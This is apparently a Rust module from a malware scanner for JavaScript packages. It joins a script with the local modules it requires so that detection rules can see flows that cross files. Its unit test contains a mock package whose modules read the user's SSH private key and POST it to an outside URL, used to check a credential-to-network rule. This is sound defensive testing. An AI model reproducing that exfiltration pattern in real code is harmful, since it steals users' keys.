//! The scripts of a package, and what one reads of another: `require('./lib/send')`.

use std::{cell::Cell, collections::BTreeMap};

use super::quoted;

/// Modules that are read with one script, and the bytes of all of them.
const MODULES_MAX: usize = 16;
const BYTES_MAX: usize = 256 << 10;
/// Bytes that are read so over the whole package.
const PACKAGE_MAX: usize = 4 << 20;
/// References to modules that are looked at in one script.
const REFERENCES_MAX: usize = 256;

/// The scripts of a package by their last names, without extension. Two of one name count as one.
#[derive(Debug, Default)]
pub(crate) struct Scripts<'a> {
    texts: BTreeMap<&'a str, &'a str>,
    left: Cell<usize>,
}

impl<'a> Scripts<'a> {
    /// Of the JavaScript files of a package, given by path and text.
    pub(crate) fn of(files: &[(&'a str, &'a str)]) -> Self {
        let mut texts = BTreeMap::new();
        for (path, text) in files {
            texts.entry(stem(path)).or_insert(*text);
        }
        Self { texts, left: Cell::new(PACKAGE_MAX) }
    }

    /// A script behind the modules that it uses, and where in it the first of them is named. `None` when it uses none
    /// of the package's.
    pub(crate) fn joined(&self, path: &str, text: &str) -> Option<(String, usize, usize)> {
        let mut wanted: Vec<&str> = Vec::new();
        let mut first = None;
        for (place, name) in references(text) {
            if name != stem(path) && self.texts.contains_key(name) && !wanted.contains(&name) {
                first.get_or_insert(place);
                wanted.push(name);
            }
        }
        let (start, end) = first?;
        let mut out = String::new();
        let mut next = 0;
        while let Some(name) = wanted.get(next).copied() {
            next += 1;
            let Some(module) = self.texts.get(name).copied() else { continue };
            if next > MODULES_MAX || out.len() + module.len() + text.len() > BYTES_MAX {
                break;
            }
            out.push_str(module);
            out.push('\n');
            for (_, further) in references(module) {
                if further != stem(path) && !wanted.contains(&further) && wanted.len() < MODULES_MAX {
                    wanted.push(further);
                }
            }
        }
        out.push_str(text);
        self.left.set(self.left.get().checked_sub(out.len())?);
        Some((out, start, end))
    }
}

/// The local modules that a text names, with their places.
fn references(text: &str) -> impl Iterator<Item = ((usize, usize), &str)> {
    ["'./", "\"./", "'../", "\"../"]
        .into_iter()
        .flat_map(|opening| text.match_indices(opening))
        .take(REFERENCES_MAX)
        .filter_map(|(at, _)| {
            let path = quoted(text.get(at..)?)?;
            Some(((at + 1, at + 1 + path.len()), stem(path)))
        })
        .filter(|(_, name)| !name.is_empty())
}

/// The name under which a script is known.
fn stem(path: &str) -> &str {
    let path = path.strip_suffix("/index.js").or_else(|| path.strip_suffix("/index.ts")).unwrap_or(path);
    let name = path.rsplit('/').next().unwrap_or(path);
    match name.rsplit_once('.') {
        Some((stem, "js" | "mjs" | "cjs" | "ts" | "mts" | "cts" | "tsx" | "jsx")) => stem,
        _ => name,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        code::{Language, Reading, read},
        intent::Intent,
    };

    #[test]
    fn flows_are_followed_from_script_to_script() {
        let main = "const { collect } = require('./lib/collect');\nconst { push } = require('./lib/push');\npush(collect());\n";
        let files = [
            ("main.js", main),
            (
                "lib/collect.js",
                "exports.collect = () => fs.readFileSync(os.homedir() + '/.ssh/id_ed25519', 'utf8');\n",
            ),
            ("lib/push.js", "exports.push = body => fetch('https://c.top/p', { method: 'POST', body });\n"),
        ];
        let scripts = Scripts::of(&files);
        let (joined, start, end) = scripts.joined("main.js", main).expect("modules");
        assert_eq!(main.get(start..end), Some("./lib/collect"));
        let intent = Intent::default();
        let rules = |text: &str| -> Vec<&str> {
            read(Language::Script, text, &Reading::new(&intent)).iter().map(|hit| hit.rule.id).collect()
        };
        assert!(!rules(main).contains(&"credential-files-to-network"));
        assert!(rules(&joined).contains(&"credential-files-to-network"), "{:?}", rules(&joined));
        assert!(scripts.joined("lib/push.js", files[2].1).is_none());
    }
}
